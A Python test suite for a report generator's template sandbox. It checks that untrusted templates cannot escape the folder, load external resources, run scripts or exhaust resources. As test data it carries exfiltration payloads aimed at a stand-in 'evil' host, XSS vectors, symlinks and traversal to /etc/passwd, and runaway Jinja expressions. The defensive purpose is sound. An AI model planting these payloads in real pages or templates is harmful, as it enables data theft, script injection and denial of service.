"""A template folder or a rules file from someone else cannot read files, reach the network, run scripts or hog.

Loader and page checks run on the renderer directly (fast); the end-to-end cases go through the command line
over a previous run's folder and check the one-line error, the untouched outputs and that no debris is left.
"""

from __future__ import annotations

import dataclasses
import os
import re
import shutil
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from jinja2 import StrictUndefined

from reportgen.cli import main
from reportgen.errors import RenderError
from reportgen.render import RenderContext
from reportgen.render.html.document import JS_FLAG, render_html
from reportgen.render.html.selfcontained import external_reference, script_hash, secure_page
from reportgen.render.templating import render_template
from reportgen.resources import templates_dir
from reportgen.sandbox import BudgetedSandbox, BudgetError, Limits, budget, render
from tests.factories import make_customers, make_result


@pytest.fixture(scope="module")
def result():  # type: ignore[no-untyped-def]
    return make_result(2)


def render_with(folder: Path, result, out: Path) -> str:  # type: ignore[no-untyped-def]
    render_html(result, make_customers(result), RenderContext("2026-11-22", folder), out)
    return (out / "report.html").read_text(encoding="utf-8")


# --- the loader ----------------------------------------------------------------------------------------------------


def _folder(tmp_path: Path, cover: str) -> Path:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "_cover.html").write_text(cover)
    return folder


@pytest.mark.parametrize(("setup", "include", "message"), [
    (lambda f: os.symlink("/etc/passwd", f / "passwd.html"), "passwd.html",
     "'passwd.html' leads outside the template folder (through a symbolic link)"),
    (lambda f: os.symlink("/", f / "root"), "root/etc/passwd", "'root/etc/passwd' leads outside the template folder"),
    (lambda f: None, "../../../../etc/passwd", "'../../../../etc/passwd' not found"),
    (lambda f: (f / "notes.txt").write_text("secret"), "notes.txt", "'notes.txt' is not a template"),
    (lambda f: os.mkfifo(f / "pipe.html"), "pipe.html", "'pipe.html' is not a regular file"),
    (lambda f: (f / "big.html").write_bytes(b"x" * 2_000_001), "big.html", "'big.html' is larger than 2,000,000 bytes"),
    (lambda f: (f / "bin.html").write_bytes(b"\xff\xfe\x00binary"), "bin.html", "'bin.html' is not UTF-8 text"),
])
def test_the_loader_serves_only_templates_inside_the_folder(result, tmp_path: Path, setup, include: str,
                                                            message: str) -> None:
    folder = _folder(tmp_path, f'<section id="cover">{{% include "{include}" %}}</section>')
    setup(folder)
    with pytest.raises(RenderError, match=re.escape(message)):
        render_with(folder, result, tmp_path)
    assert not (tmp_path / "report.html").exists()


def test_a_link_inside_the_folder_is_fine(result, tmp_path: Path) -> None:
    folder = _folder(tmp_path, '<section id="cover">{% include "part.html" %}</section>')
    (folder / "real.html").write_text("<p class='part'>inside</p>")
    os.symlink(folder / "real.html", folder / "part.html")
    assert "<p class='part'>inside</p>" in render_with(folder, result, tmp_path)


def test_the_page_script_cannot_be_overridden(result, tmp_path: Path) -> None:
    folder = _folder(tmp_path, '<section id="cover"></section>')
    (folder / "interactive.js").write_text("location = 'http://evil/?' + document.body.innerText;")
    with pytest.raises(RenderError, match=r"'interactive\.js' is not a template"):
        render_with(folder, result, tmp_path)


# --- the rendered page ---------------------------------------------------------------------------------------------

EXFILTRATE = [
    ("<script>location='http:\\/\\/evil/?d='+document.body.innerText</script>", "<script>"),
    ('<a href="http:\\\\evil/x">x</a>', "href=http:\\\\evil/x"),
    ('<a href="http:evil/x">x</a>', "href=http:evil/x"),
    ('<a href=" java\tscript:alert(1)">x</a>', "href= java"),
    ('<object data="//evil/x.svg"></object>', "<object>"),
    ('<embed src="x.swf">', "<embed>"),
    ('<iframe srcdoc="<p>"></iframe>', "<iframe>"),
    ('<img src="//evil/pixel.png" alt="">', "src=//evil/pixel.png"),
    ('<img srcset="a.png 1x, https://evil/b.png 2x" alt="">', "srcset="),
    ('<img src="data:image/png;base64,AAAA" onerror="fetch(1)" alt="">', "onerror= on <img>"),
    ('<div style="background: u\\72l(//evil/x)"></div>', "style: url(//evil/x)"),
    ('<div style="background-image: image-set(\'https://evil/x\' 1x)"></div>', "style: image-set("),
    ("<style>@import 'https://evil/x.css';</style>", "<style>: @import"),
    ("<style>.a{background:\\75 rl(https://evil/)}</style>", "<style>: url(https://evil/)"),
    ('<svg><rect fill="url(https://evil/#p)"/></svg>', "fill: url(https://evil/#p)"),
    ('<svg><image href="https://evil/x.png"/></svg>', "href=https://evil/x.png"),
    ('<svg><a><animate attributeName="href" to="https://evil"/></a></svg>', "attributeName=href"),
    ('<meta http-equiv="refresh" content="0;url=https://evil/">', "<meta http-equiv=refresh>"),
    ('<base href="https://evil/">', "<base>"),
    ('<link rel="stylesheet" href="x.css">', "<link>"),
    ('<form action="https://evil/"><button>go</button></form>', "<form>"),
]


@pytest.mark.parametrize(("markup", "found"), EXFILTRATE, ids=[f"x{i}" for i in range(len(EXFILTRATE))])
def test_the_page_check_finds_what_would_fetch_or_run(markup: str, found: str) -> None:
    page = f'<!DOCTYPE html><html><head><script>{JS_FLAG}</script></head><body>{markup}</body></html>'
    problem = external_reference(page, (JS_FLAG,))
    assert problem is not None and found in problem, problem


@pytest.mark.parametrize(("markup", "found"), [EXFILTRATE[0], EXFILTRATE[4], EXFILTRATE[10]])
def test_a_template_cannot_make_the_page_fetch_or_run(result, tmp_path: Path, markup: str, found: str) -> None:
    folder = _folder(tmp_path, f'<section id="cover">{markup}</section>')
    with pytest.raises(RenderError, match="it must be self-contained") as info:
        render_with(folder, result, tmp_path)
    assert found in str(info.value)
    assert not (tmp_path / "report.html").exists()


@pytest.mark.parametrize("text", ["@import", "sales@import.co.uk", "url(//cdn)", "src=https://x",
                                  "see href=//wiki/page", "<script>alert(1)</script>"])
def test_data_text_is_never_refused(tmp_path: Path, text: str) -> None:
    """What the data says is text (escaped), and text is never what the check reads."""
    base = make_result(2)
    result = dataclasses.replace(base, report=dataclasses.replace(base.report, company=text))
    render_html(result, make_customers(result), RenderContext("2026-11-22"), tmp_path)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert text in BeautifulSoup(page, "html.parser").get_text()


def test_ordinary_markup_passes() -> None:
    page = ('<!DOCTYPE html><html><head><title>x</title></head><body><a href="#top">up</a> '
            '<a href="segments.csv">csv</a><img alt="" src="data:image/png;base64,AA">'
            '<svg><rect clip-path="url(#c)" fill="#fff"/></svg><p title="url(//cdn) @import">@import url(//x)</p>'
            '<script type="application/json">{"id": "sales@import.co.uk", "u": "url(//cdn)"}</script></body></html>')
    assert external_reference(page, ()) is None


def test_a_report_template_without_its_policy_still_gets_it(result, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    original = (templates_dir() / "report.html").read_text(encoding="utf-8")
    dropped = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", original)
    assert dropped != original
    (folder / "report.html").write_text(dropped)
    page = render_with(folder, result, tmp_path)
    soup = BeautifulSoup(page, "html.parser")
    policy = soup.head.find("meta")
    assert policy["http-equiv"] == "Content-Security-Policy"
    content = policy["content"]
    assert "default-src 'none'" in content and "'unsafe-inline'" not in content.split("style-src")[0]
    assert script_hash(JS_FLAG) in content
    scripts = [s.string or "" for s in soup.find_all("script") if s.get("type") != "application/json"]
    assert scripts and all(script_hash(s) in content for s in scripts)


def test_the_policy_must_come_first() -> None:
    with pytest.raises(ValueError, match="must open with"):
        secure_page("<!DOCTYPE html><script>steal()</script><html><head></head></html>")
    assert secure_page("<!DOCTYPE html>\n<html lang='en'>\n<head>\n<title>t</title>").count("Content-Security") == 1


# --- budgets -------------------------------------------------------------------------------------------------------

ENV = BudgetedSandbox(undefined=StrictUndefined, autoescape=False)
SMALL = Limits(seconds=5.0, output=20_000, iterations=100_000, value=100_000)


@pytest.mark.parametrize(("template", "message"), [
    ("{{ 9**(9**10) }}", "would be an integer of more than 4096 bits"),
    ("{{ (((9**99)**99)**99)**99 }}", "would be an integer of more than 4096 bits"),
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}", "loop iterations"),
    ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}", "output budget"),
    ("{{ lipsum(1000000) }}", "lipsum of more than 10,000 words"),
    ("{{ '%999999999d'|format(1) }}", "format widths and precisions above 1000"),
    ("{{ '%999999999d' % 1 }}", "format widths and precisions above 1000"),
    ("{{ '{:999999999}'.format(1) }}", "format widths and precisions above 1000"),
    ("{{ '%*d' % (999999999, 1) }}", "given as '*'"),
    ("{{ 'x' * 10**9 }}", "repeating a value"),
    ("{{ 'x'.center(10**9) }}", "wider than 1000"),
    ("{{ 'x'|indent(10**9) }}", "wider than 1000"),
    ("{% set ns = namespace(s='xx') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
     "built a value of"),
    ("{% set ns = namespace(s='xx') %}{% for i in range(60) %}{% set ns.s = [ns.s, ns.s]|join %}{% endfor %}",
     "built a value of"),
    ("{{ ('x' * 1000).replace('x', 'y' * 1000) }}", "replace would build"),
])
def test_budgets_stop_runaway_templates_fast(template: str, message: str) -> None:
    start = time.monotonic()
    with pytest.raises(Exception, match=re.escape(message)), budget(SMALL):
        render(ENV.from_string(template), {})
    assert time.monotonic() - start < 2


def test_the_time_budget() -> None:
    with pytest.raises(BudgetError, match=r"took longer than the time budget of 0\.2 s"), \
            budget(Limits(0.2, 10**9, 10**9, 10**9)):
        render(ENV.from_string("{% for a in range(100000) %}{% for b in range(100000) %}{{ a * b }}"
                               "{% endfor %}{% endfor %}"), {})


def test_ordinary_arithmetic_and_formats_still_work() -> None:
    with budget(SMALL):
        out = render(ENV.from_string("{{ '%5.1f'|format(3.14159) }} {{ '{:>8,.2f}'.format(1234.5) }} {{ 2**64 }} "
                                     "{{ 'ab' * 3 }} {% for i in range(3) %}{{ i }}{% endfor %}"), {})
    assert out == "  3.1 1,234.50 18446744073709551616 ababab 012"


def test_a_runaway_user_template_is_one_line_naming_it(result, tmp_path: Path) -> None:
    folder = _folder(tmp_path, '<section id="cover">{{ 9**(9**10) }}</section>')
    start = time.monotonic()
    with pytest.raises(RenderError, match=r"^template '_cover\.html' went past its budget: '9 \*\* 3486784401' "):
        render_with(folder, result, tmp_path)
    assert time.monotonic() - start < 5


def test_a_self_calling_macro_in_a_template(tmp_path: Path) -> None:
    (tmp_path / "loop.html").write_text("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")
    with pytest.raises(RenderError, match="it calls itself without end"):
        render_template("loop.html", {}, tmp_path)


# --- end to end ----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def previous(tmp_path_factory: pytest.TempPathFactory, small_data: Path) -> Path:
    folder = tmp_path_factory.mktemp("previous") / "out"
    result = CliRunner().invoke(main, ["run", str(small_data), "-o", str(folder), "--k", "3", "--formats", "json",
                                       "-q"])
    assert result.exit_code == 0, result.output
    return folder


FOLDER_CASES = [
    ('{% include "passwd.html" %}', ("passwd.html", "/etc/passwd"),
     "template folder {folder}: 'passwd.html' leads outside the template folder (through a symbolic link)"),
    ('{% include "root/etc/hostname" %}', ("root", "/"), "'root leads outside the template folder"),
    ("{{ 9**(9**10) }}", None, "template '_cover.html' went past its budget"),
    ('<object data="http://evil/x"></object>', None, "would load an external resource or run a script"),
]


# Every case through validate; two of them through a whole run too (the renderer tests above cover the rest).
@pytest.mark.parametrize(("command", "cover", "link", "message"),
                         [("validate", *case) for case in FOLDER_CASES]
                         + [pytest.param("run", *FOLDER_CASES[i], marks=pytest.mark.slow) for i in (0, 2)])
def test_template_folder_cases_end_to_end(previous: Path, small_data: Path, tmp_path: Path, cover: str,
                                          link: tuple[str, str] | None, message: str, command: str) -> None:
    folder = _folder(tmp_path, f'<section id="cover">{cover}</section>')
    if link:
        os.symlink(link[1], folder / link[0])
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    data = str(small_data)
    if command == "run":
        args = ["run", data, "-o", str(out), "--formats", "html", "--k", "2", "--template-dir", str(folder), "-q"]
    else:
        (tmp_path / "c.toml").write_text(f'[output]\ntemplate_dir = "{folder}"\n')
        args = ["validate", data, "-c", str(tmp_path / "c.toml")]
    result = CliRunner().invoke(main, args)
    if command == "validate" and link is None:  # compiling cannot see what a template computes or writes
        assert result.exit_code == 0, result.output
        return
    assert result.exit_code == 1, result.output
    assert result.output.count("\n") == 1 and result.output.startswith("Error: "), result.output
    expected = message.format(folder=folder).replace("'root ", "'root' ")
    assert expected in result.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["templates", "out"] +
                                                                (["c.toml"] if command == "validate" else []))


@pytest.mark.slow
def test_data_that_reads_like_markup_runs_through(tmp_path: Path) -> None:
    """Categories and ids that read like CSS or URLs are text: the whole run writes the HTML report."""
    words = ["@import", "url(//cdn)", "src=https://x", "see href=//wiki/page"]
    lines = ["customer_id,spend,orders,channel"]
    lines += [f"{'sales@import.co.uk' if i == 0 else f'C{i}'},{100 + (i % 2) * 900 + i},{1 + (i % 2) * 20},"
              f"{words[i % 4]}" for i in range(60)]
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["run", str(path), "-o", str(tmp_path / "out"), "--formats", "html",
                                       "--k", "2", "-q"])
    assert result.exit_code == 0, result.output
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "sales@import.co.uk" in page and all(word in page for word in ("@import", "url(//cdn)"))


# --- the logo ------------------------------------------------------------------------------------------------------

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")


@pytest.mark.parametrize(("name", "content", "message"), [
    ("logo.png", b"just text, named like an image", "is not a PNG, JPEG, GIF, WebP or SVG image"),
    ("logo.svg", b"<html><script>alert(1)</script></html>", "is not a PNG, JPEG, GIF, WebP or SVG image"),
    ("logo.png", PNG + b"\0" * 5_000_000, "is larger than 5 MB; use a smaller image"),
    ("missing.png", None, "cannot be read (No such file or directory)"),
])
def test_a_logo_must_be_a_small_image(tmp_path: Path, name: str, content: bytes | None, message: str) -> None:
    from reportgen.errors import ConfigError
    from reportgen.render.context import logo_data_uri

    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(ConfigError, match=re.escape(f"Config value 'report.logo': {path} {message}")):
        logo_data_uri(str(path))


def test_a_real_logo_is_embedded_by_its_content(tmp_path: Path) -> None:
    from reportgen.render.context import logo_data_uri

    (tmp_path / "logo.bin").write_bytes(PNG)
    assert logo_data_uri(str(tmp_path / "logo.bin")).startswith("data:image/png;base64,iVBORw0KGgo")


@pytest.mark.parametrize("command", [pytest.param("run", marks=pytest.mark.slow), "validate"])
def test_a_huge_logo_is_one_line_end_to_end(previous: Path, small_data: Path, tmp_path: Path, command: str) -> None:
    logo = tmp_path / "logo.png"
    with logo.open("wb") as handle:  # a sparse file: 1.5 GB on paper, nothing on disk
        handle.write(PNG)
        handle.truncate(1_500_000_000)
    (tmp_path / "c.toml").write_text(f'[report]\nlogo = "{logo}"\n')
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    args = (["run", str(small_data), "-o", str(out), "--formats", "pdf", "--k", "2", "-q"] if command == "run"
            else ["validate", str(small_data)])
    result = CliRunner().invoke(main, [*args, "-c", str(tmp_path / "c.toml")])
    assert result.exit_code == 1, result.output
    assert result.output == f"Error: Config value 'report.logo': {logo} is larger than 5 MB; use a smaller image\n"
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.toml", "logo.png", "out"]


def test_validate_tries_template_files_and_leaves_other_files_alone(small_data: Path, tmp_path: Path) -> None:
    folder = _folder(tmp_path, '<section id="cover">{{ report.company }}</section>')
    (folder / "README.md").write_text("# our design\n")
    (tmp_path / "c.toml").write_text(f'[output]\ntemplate_dir = "{folder}"\n')
    result = CliRunner().invoke(main, ["validate", str(small_data), "-c", str(tmp_path / "c.toml")])
    assert result.exit_code == 0 and "templates: 1 file compiled in the sandbox" in result.output, result.output
    (folder / "interactive.js").write_text("location = 'http://evil/'")
    result = CliRunner().invoke(main, ["validate", str(small_data), "-c", str(tmp_path / "c.toml")])
    assert result.output == (f"Error: Config value 'output.template_dir': template folder {folder}: 'interactive.js' "
                             "is not a template (only .html, .htm, .css, .svg, .xml files)\n")
